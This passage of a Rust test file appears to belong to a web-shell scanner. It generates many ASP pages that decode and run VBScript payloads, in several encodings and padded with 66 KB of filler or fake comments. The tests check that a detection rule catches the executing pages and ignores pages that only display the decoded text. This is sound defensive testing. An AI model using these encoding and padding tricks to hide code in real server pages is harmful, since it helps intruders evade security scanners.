    let line = "<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod.</p>\n";
    let filler = line.repeat(66 * 1024 / line.len() + 1);
    if turn.is_multiple_of(2) {
        format!("{page}\n{filler}")
    } else {
        let comments = filler.replace("<p>", "' ").replace("</p>", "");
        page.replacen("<%\n", &format!("<%\n{comments}"), 1)
    }
}

fn encoded_pages(ends: &[&str]) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut turn = 0usize;
    for payload in VBS_PAYLOADS {
        for (what, decode) in encodings(payload) {
            for end in ends {
                turn += 1;
                let code = format!("On Error Resume Next\n{decode}{end}");
                let page = format!("<%\n{code}\n%>");
                let padded = pad(page.clone(), turn);
                out.push((format!("{what} {end:?} {payload:?}"), page));
                out.push((format!("padded {what} {end:?} {payload:?}"), padded));
            }
        }
    }
    out
}

#[test]
fn every_generated_encoded_page_is_caught() {
    let all = encoded_pages(VBS_RUNS);
    assert!(all.len() > 200, "generator shrank: {}", all.len());
    assert_all_caught(&all, Severity::High, "EXRAY_ENCODED_DUMP", "encoded pages");
}

#[test]
fn decoded_text_shown_trips_nothing() {
    let all = encoded_pages(VBS_SHOWS);
    assert!(all.len() > 100, "generator shrank: {}", all.len());
    assert_none_fire(&all, "pages that decode text and show it");
}
